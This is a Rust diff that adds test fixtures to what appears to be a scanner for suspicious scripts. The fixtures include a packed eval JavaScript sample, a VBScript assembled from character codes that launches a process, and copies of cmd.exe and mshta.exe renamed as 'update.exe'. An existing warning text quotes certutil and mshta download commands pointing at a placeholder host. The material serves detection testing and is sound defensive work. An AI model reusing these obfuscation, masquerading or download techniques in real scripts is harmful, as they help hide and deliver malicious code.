@@ -8,6 +8,7 @@ pub(crate) fn all() -> Vec<Fixture> {
     let mut all = programs();
     all.extend(shortcuts());
     all.extend(scripts());
+    all.extend(copies());
     all.extend(commands());
     all.extend(projects());
     all.extend(pages());
@@ -169,6 +170,8 @@ fn shortcuts() -> Vec<Fixture> {
 
 const MINIFIED: &str = "!function(e,t){\"use strict\";var n=String.fromCharCode(13,10),r=\"a\"+n+\"b\";e.plan={get:function(i){return i?r.split(n).reverse().join(\"\"):t},set:function(i,o){for(var u=0;u<i.length;u++)o.push(i[u]);return o}}}(this,void 0);\nvar h='<table>'+'<tr><td>'+'a long piece of a page'+'</td></tr>'+'</table>';\n";
 
+const PACKED: &str = "eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c]);return p}('0.1(2)',3,3,'console|log|total'.split('|'),0,{}))\n";
+
 fn scripts() -> Vec<Fixture> {
     let plain = "'use strict';\nfunction total(list) {\n  var sum = 0;\n  for (var i = 0; i < list.length; i++) {\n    sum += list[i];\n  }\n  return sum;\n}\nmodule.exports = total;\n";
     let starts = "On Error Resume Next\nDim s\nSet s = CreateObject(\"WScript.Shell\")\ns.Run \"notepad.exe\", 1, False\n";
@@ -184,6 +187,14 @@ fn scripts() -> Vec<Fixture> {
         "var t = String.fromCharCode({});\nWScript.Echo(t);\nfunction f(a) {{\n  return a.length;\n}}\n",
         codes.join(",")
     );
+    let listed: Vec<String> = "CreateObject(\"WScript.Shell\").Run \"notepad.exe\""
+        .bytes()
+        .map(|byte| byte.to_string())
+        .collect();
+    let listed = format!(
+        "For Each code In Split(\"{}\")\n  text = text & Chr(code)\nNext\nExecute text\n",
+        listed.join(" ")
+    );
     let carets = "@echo off\ns^e^t a=1\ne^c^h^o %a%\nt^i^m^e^o^u^t /t 1\n";
     let batch = "@echo off\nset day=%date:~0,4%%date:~5,2%%date:~8,2%\nxcopy D:\\data E:\\backup\\%day% ^\n  /s /d\nif %errorlevel% neq 0 echo failed\n";
     vec![
@@ -191,16 +202,45 @@ fn scripts() -> Vec<Fixture> {
         ("findings/script/hit.starts-process.vbs", lines(starts)),
         ("findings/script/hit.downloads.ps1", lines(downloads)),
         ("findings/script/hit.decodes-and-runs.js", lines(decodes)),
+        // Told by the name alone: too short to be told by what stands in it.
+        ("findings/script/hit-named.py", lines("print('hello')\n")),
+        (
+            "findings/script/hit-listed.starts-process.vbs",
+            lines(&listed),
+        ),
         ("findings/script/miss.html", lines(page)),
+        ("findings/script/miss-named.txt", lines("print('hello')\n")),
         ("findings/script/miss.txt", lines(words)),
         ("findings/script-obfuscated/hit.js", lines(&scrambled)),
         ("findings/script-obfuscated/hit.bat", lines(carets)),
+        ("findings/script-obfuscated/hit-packed.js", lines(PACKED)),
         ("findings/script-obfuscated/miss.js", lines(MINIFIED)),
         ("findings/script-obfuscated/miss.bat", lines(batch)),
     ]
 }
 
 const HOW_TO: &str = "Dear colleagues,\r\n\r\nsomebody may ask you to run one of these commands:\r\n\r\npowershell -enc VwByAGkAdABlAC0ASABvAHMAdAAgADEA\r\ncertutil -urlcache -split -f http://files.example.invalid/a.txt b.txt\r\nmshta http://files.example.invalid/a.hta\r\n\r\nPlease do not, and call the help desk.\r\n";
+
+/// Tools of Windows that a script gives another name, or copies as they are called.
+fn copies() -> Vec<Fixture> {
+    let linked = "mklink D:\\public\\update.exe C:\\Windows\\System32\\mshta.exe\n";
+    let method = "$tool = 'cert' + 'util.exe'\n[IO.File]::Copy('C:\\Windows\\System32\\cmd.exe', 'D:\\public\\update.exe')\n";
+    let same = "Copy-Item C:\\Windows\\System32\\cmd.exe D:\\winpe\\cmd.exe\n[IO.File]::Copy('setup.exe', 'D:\\setup_2.exe')\n";
+    vec![
+        (
+            "findings/renamed-system-binary/hit-linked.bat",
+            lines(linked),
+        ),
+        (
+            "findings/renamed-system-binary/hit-method.ps1",
+            lines(method),
+        ),
+        (
+            "findings/renamed-system-binary/miss-same-name.ps1",
+            lines(same),
+        ),
+    ]
+}
 
 fn commands() -> Vec<Fixture> {
     let plain = "@echo off\npowershell -NoProfile -File inventory.ps1\nexit /b\n";
